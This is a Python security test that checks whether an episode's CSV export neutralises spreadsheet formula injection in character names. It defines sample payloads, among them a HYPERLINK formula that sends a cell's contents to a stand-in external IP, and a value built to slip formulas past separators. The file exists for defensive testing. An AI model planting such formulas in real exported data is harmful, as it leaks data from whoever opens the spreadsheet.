"""Names that are formulas to whoever opens a table of them."""

from __future__ import annotations

import csv
import io

import httpx

from tests.hostile.attack import Attack
from tests.hostile.target import Target
from tests.support.reported_episode import report_episode

EP = "tabled-show-s01e01"
NAMES = {
    "ada": '=HYPERLINK("http://203.0.113.66/?"&A1;"more")',
    "bo": "@SUM(1)\t=1+1;=2+2\r\n-3,+4",
}
BEGINS_FORMULA = ("=", "+", "-", "@", "\t", "\r")


async def _report(target: Target) -> None:
    async with target.bucket() as storage:
        await report_episode(target.database, storage, ep_id=EP, names=NAMES)


async def _opened(target: Target) -> str:
    """What a program makes of the table, with whichever separator it believes in."""
    headers = {"X-API-Key": target.keys["admin"]}
    async with httpx.AsyncClient(base_url=target.url, headers=headers, timeout=15) as client:
        answer = await client.get(f"/screen-time/{EP}/files/csv", params={"inline": True})
    if answer.status_code != httpx.codes.OK:
        return f"{answer.status_code} {answer.text}"
    table = answer.content.decode("utf-8-sig")
    names = {cell for row in csv.reader(io.StringIO(table, newline="")) for cell in row}
    if not any("HYPERLINK" in name for name in names):
        return "the name is not in the table"
    cells = {
        cell
        for separator in ",;\t"
        for row in csv.reader(io.StringIO(table, newline=""), delimiter=separator)
        for cell in row
    }
    live = sorted(cell for cell in cells if cell.startswith(BEGINS_FORMULA) and not _is_number(cell))
    return f"a formula: {live[0]!r}" if live else "text"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


ATTACKS = (Attack(family="tables", name="names that are formulas", prepare=_report, run=_opened, expected="text"),)
